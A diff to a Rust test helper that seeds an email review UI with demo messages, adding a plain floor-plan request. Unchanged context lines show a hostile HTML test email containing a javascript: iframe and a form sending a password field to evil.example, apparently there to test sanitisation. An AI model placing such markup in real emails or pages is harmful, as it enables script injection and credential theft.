@@ -1,5 +1,7 @@
 //! A seeded review UI for the web tests: the demo inbox, three more thank-you
-//! notes (so similar routine drafts form a group), and a hostile HTML message,
+//! notes (so similar routine drafts form a group), a request whose reply
+//! commits to act (a second draft that waits with nothing to fill in), and a
+//! hostile HTML message,
 //! served on a free loopback port with the outbox delivering into a Maildir.
 
 #![allow(dead_code)]
@@ -26,6 +28,12 @@ Content-Type: text/html; charset=utf-8\r\n\
 <iframe src=\"javascript:window.__pwned=7\"></iframe>\r\n\
 <form action=\"https://evil.example/steal\"><input name=\"pw\"></form>\r\n\
 <p>Thanks, Mallory</p></body></html>\r\n";
+
+/// A request without a question: its reply promises to look into it, so it
+/// waits for review with no placeholder.
+const REQUEST: &str = "From: Nora Hale <nora@hale-studio.example>\r\nTo: Sam Carter <sam@northwind.example>\r\nSubject: Floor plan\r\n\
+Message-ID: <floor-plan-1@hale-studio.example>\r\nDate: Mon, 23 Nov 2026 10:30:00 +0000\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
+Hi Sam,\r\n\r\nPlease send me the updated floor plan when you have it.\r\n\r\nNora\r\n";
 
 fn thank_you(n: usize, name: &str, email: &str) -> String {
     format!(
@@ -63,6 +71,7 @@ pub async fn seeded(undo_seconds: u64, extra_web: &str) -> Seeded {
     for (i, (name, email)) in [("Ava Brooks", "ava@brooks.example"), ("Leo Park", "leo@park.example"), ("Mia Stone", "mia@stone.example")].iter().enumerate() {
         app.ingest(thank_you(i + 1, name, email).as_bytes(), Source { mailbox: "INBOX", uid: None, uidvalidity: None }).await.unwrap();
     }
+    app.ingest(REQUEST.as_bytes(), Source { mailbox: "INBOX", uid: None, uidvalidity: None }).await.unwrap();
     app.ingest(HOSTILE.as_bytes(), Source { mailbox: "INBOX", uid: None, uidvalidity: None }).await.unwrap();
     let server = autoemail::web::serve(vec![app.clone()], "tester").await.unwrap();
     let worker = autoemail::outbox::spawn_worker(app.clone(), app.sender().unwrap(), None, std::time::Duration::from_millis(300));
